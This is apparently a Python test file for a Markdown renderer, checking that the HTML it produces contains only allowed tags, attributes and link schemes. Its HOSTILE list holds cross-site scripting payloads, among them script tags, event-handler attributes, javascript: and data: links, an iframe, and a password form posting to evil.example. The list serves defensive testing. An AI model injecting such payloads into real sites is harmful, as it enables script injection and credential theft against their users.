"""Rich text: Markdown comes out as harmless HTML, whatever went in."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.kernel.richtext import LONGEST_TEXT, plain, render

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "![x](https://tracker.example/pixel.png)",
    "<a href='javascript:alert(1)'>x</a>",
    "<svg onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<p style='position:fixed'>x</p>",
    '<https://a.example/"onmouseover=alert(1)>',
    "`<b onclick=alert(1)>`",
    "| a |\n|---|\n| <script>x</script> |",
    "[a]: javascript:alert(1)\n\n[a]",
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "<form action=https://evil.example><input name=password></form>",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
]
ALLOWED_TAGS = frozenset(
    {"p", "br", "hr", "h2", "h3", "h4", "h5", "h6", "strong", "em", "s", "code", "pre"}
    | {"blockquote", "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td"}
)


class Inspector(HTMLParser):
    """Reads HTML as a browser would, and refuses what could act."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED_TAGS
        for name, value in attrs:
            assert name in {"href", "title", "rel", "start"}
            if name == "href":
                scheme = urlsplit((value or "").strip()).scheme
                assert scheme in {"", "http", "https", "mailto", "tel"}


def check_harmless(html: str) -> None:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_comes_out_harmless(text: str) -> None:
    check_harmless(render(text))


@given(st.lists(st.sampled_from([*HOSTILE, "*", "_", "[", "](", "\n", "> ", "```", "text"])))
def test_hostile_pieces_in_any_order_come_out_harmless(pieces: list[str]) -> None:
    check_harmless(render(" ".join(pieces)))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**bold** and *soft*", "<p><strong>bold</strong> and <em>soft</em></p>"),
        ("# Big", "<h2>Big</h2>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("~~old~~", "<p><s>old</s></p>"),
        (
            "[site](https://a.example)",
            '<p><a href="https://a.example" rel="nofollow noopener noreferrer">site</a></p>',
        ),
    ],
)
def test_markdown_becomes_html(text: str, html: str) -> None:
    assert render(text).strip() == html


def test_only_so_much_text_is_rendered() -> None:
    assert len(render("a" * (LONGEST_TEXT + 5000))) < LONGEST_TEXT + 100


def test_deep_nesting_is_answered() -> None:
    check_harmless(render("> " * 5000 + "deep"))
    check_harmless(render("[" * 5000 + "deep"))


def test_plain_words_have_no_marks() -> None:
    text = "# Laser\n\n**Fast** [cutting](https://a.example) of `316L`\n\n- steel\n- brass"

    assert plain(text) == "Laser Fast cutting of 316L steel brass"
